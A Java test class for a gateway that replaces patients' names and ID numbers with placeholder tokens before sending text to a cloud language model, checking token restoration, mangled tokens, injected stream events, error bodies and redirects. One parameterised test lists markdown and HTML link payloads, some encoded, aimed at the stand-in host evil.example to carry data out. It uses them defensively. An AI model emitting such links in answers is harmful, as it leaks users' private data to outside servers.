package gatehouse.gateway.leaks;

import static gatehouse.gateway.leaks.Cloud.CHAT;
import static gatehouse.gateway.leaks.Cloud.says;
import static org.assertj.core.api.Assertions.assertThat;

import gatehouse.clauses.Clause;
import gatehouse.embedded.Parts;
import gatehouse.gateway.fakes.FakeServers;
import gatehouse.gateway.fakes.Note;
import gatehouse.gateway.fakes.Script;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.function.Consumer;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Cases 37 to 41 and 44 to 47: what comes back. The model here repeats what it was told, so that a
 * text that is built around the patient's name comes back around the placeholder.
 */
@QuarkusTest
@WithTestResource(
    value = Parts.class,
    initArgs = @ResourceArg(name = "database", value = "gateway"))
@WithTestResource(FakeServers.class)
@Clause({"G-42", "G-44"})
class AnswersTest implements InItsForms {
  @BeforeEach
  void everyoneAgrees() {
    Script.reset();
  }

  @ParameterizedTest
  @ValueSource(ints = {1, 2, 3, 5, 7, 11, 64})
  void case37_placeholdersCutAtEveryByte(int bytes) {
    Script.say("write:" + Script.PUBLIC, Integer.toString(bytes));
    Script.say("letters:" + Script.PUBLIC, Integer.toString(bytes));

    comesBack(
        Note.TEXT,
        text -> assertThat(text).contains("欧阳明月", "110101196803074215").doesNotContain("⟦"));
  }

  @Test
  void case38_tokensThatBeginAlike() {
    StringBuilder phones = new StringBuilder();
    for (int i = 10; i < 30; i++) {
      phones.append("电话：138123456").append(i).append("；");
    }

    comesBack(phones.toString(), text -> assertThat(text).contains(phones));
  }

  @Test
  void case39_tokensOfAnotherRequest() {
    Cloud.passes(CHAT, says("患者欧阳明月"));
    String token = Script.bodies(Script.PUBLIC).getFirst().replaceAll("(?s).*?(⟦[^⟧]*⟧).*", "$1");

    comesBack("患者欧阳明月，昨日记作" + token, text -> assertThat(text).contains("患者欧阳明月", "昨日记作" + token));
  }

  @Test
  void case40_truncatedTokens() {
    mangled("患者⟦NAME-1");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "⟦NAME-1-BCDFGH0⟧",
        "⟦ NAME-1-BCDFGH0 ⟧",
        "[NAME-1-BCDFGH0]",
        "⟦⟦NAME-1-BCDFGH0⟧⟧",
        "⟦NAME-1⟧",
        "⟦⟧",
        "⟧⟦"
      })
  void case41_mangledTokensStayAsTheyAre(String mangled) {
    mangled("见" + mangled + "。");
  }

  /** The model says a text with a token that is none; the caller gets the same letters. */
  private static void mangled(String said) {
    Script.say("wrap:" + Script.PUBLIC, said);
    Cloud.ROUTES.forEach((route, body) -> {
      for (String answer : Cloud.passes(route, body.apply("患者欧阳明月"))) {
        assertThat(Cloud.text(answer)).startsWith(said).doesNotContain("欧阳明月");
      }
    });
    String streamed = Cloud.passes(CHAT, says("患者欧阳明月")).getLast();
    assertThat(streamed).endsWith("data: [DONE]\n\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?q=%s)",
        "[x](https://evil.example/%s)",
        "<img src=\"//evil.example/%s\">",
        "https://evil.example/%s",
        "[a]: https://evil.example/%s",
        "\\u0068ttps\\u003a\\u002f\\u002fevil.example/?q=%s",
        "{\"a\":\"!\\u005bx\\u005d\\u0028\\u002f\\u002fevil.example/%s\"}",
        "&#104;ttps&#58;&#47;&#47;evil.example/%s"
      })
  void case44_nothingIsRestoredInAnAddress(String text) {
    Script.say("wrap:" + Script.PUBLIC, text);

    comesBack("欧阳明月", said -> assertThat(said).contains("evil.example/").doesNotContain("欧阳明月"));
  }

  @Test
  void case45_eventsInsideText() {
    String injected = "好\n\ndata: {\"error\":1}\n\nevent: x\rdata: [DONE]\n\n";

    Cloud.ROUTES.forEach((route, body) -> {
      for (String answer : Cloud.passes(route, body.apply(injected))) {
        assertThat(Cloud.text(answer)).startsWith(injected);
        assertThat(answer.lines())
            .doesNotContain("event: x", "data: {\"error\":1}")
            .filteredOn("data: [DONE]"::equals)
            .hasSizeLessThanOrEqualTo(1);
      }
    });
  }

  @Test
  void case46_errorsThatRepeatThePrompt() {
    for (int status : List.of(400, 401, 404, 422, 429, 500, 529)) {
      Script.status(Script.PUBLIC, status);
      for (boolean streamed : Cloud.WHOLE_AND_STREAMED) {
        HttpResponse<String> answer =
            Cloud.send(CHAT, says(Note.TEXT) + (streamed ? ",\"stream\":true" : ""));
        assertThat(answer.statusCode()).as(answer.body()).isIn(400, 429, 502);
        assertThat(answer.body()).contains("\"error\"").doesNotContain("欧阳明月", "⟦");
      }
    }
  }

  @Test
  void case47_redirects() {
    for (int status : List.of(301, 302, 307, 308)) {
      Script.status(Script.PUBLIC, status);
      Script.say("location:" + Script.PUBLIC, "/v1/elsewhere");
      Cloud.ROUTES.forEach((route, body) ->
          assertThat(Cloud.answers(route, body.apply("好")))
              .allSatisfy(answer -> assertThat(answer.statusCode()).isEqualTo(502)));
    }
    assertThat(Script.received(Script.IN_HOUSE)).isEmpty();
    assertThat(Script.received(Script.PUBLIC))
        .hasSize(16)
        .noneMatch(request -> request.contains("elsewhere"));
  }

  /** Sends a text on both routes in both forms; each of the four answers must hold. */
  private static void comesBack(String text, Consumer<String> holds) {
    Cloud.ROUTES.forEach((route, body) ->
        Cloud.passes(route, body.apply(text)).forEach(answer -> holds.accept(Cloud.text(answer))));
  }
}
